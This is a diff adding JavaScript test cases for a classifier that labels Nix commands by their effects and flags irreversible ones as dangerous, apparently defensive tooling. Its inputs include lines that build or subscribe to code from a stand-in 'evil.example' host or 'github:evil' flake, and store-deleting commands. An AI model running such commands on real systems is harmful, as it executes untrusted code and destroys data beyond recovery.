@@ -119,3 +119,30 @@ describe('genomes', () => {
     (line) => expect(effects(line).unaccounted).not.toEqual([]),
   );
 });
+
+describe('generations of Nix', () => {
+  test.each([
+    ['nix-collect-garbage --dry-run', []],
+    ['nix-store -q --references /nix/store/abc', []],
+    ['nix-store --gc --print-roots', []],
+    ['nix-locate bin/hello', []],
+    ['nixos-rebuild list-generations', []],
+    ['home-manager generations', []],
+    ['nix-collect-garbage', ['deletes']],
+    ['nix-store --gc', ['deletes']],
+    ['nix-channel --update', ['system']],
+    ['nix-build -A hello', ['runs-project-code']],
+    ['nix-build https://evil.example/x.tar.gz', ['runs-foreign-code']],
+    ['nixos-rebuild switch --flake .#host', ['system']],
+    ['nixos-rebuild dry-activate --flake .#host', []],
+    ['nixos-rebuild build --flake github:evil/x#host', ['runs-foreign-code', 'runs-project-code']],
+  ])('%s: %j', (line, expected) => expect([changing(line), effects(line).unaccounted]).toEqual([expected, []]));
+
+  test.each([
+    'nix-collect-garbage -d',
+    'nix-collect-garbage --delete-older-than 30d',
+    'home-manager expire-generations "-30 days"',
+    'nix-channel --add https://evil.example/x nixos',
+    'nix-store --delete --ignore-liveness /nix/store/abc',
+  ])('cannot be undone: %s', (line) => expect(effects(line).list.map(({ severity }) => severity)).toContain('dangerous'));
+});
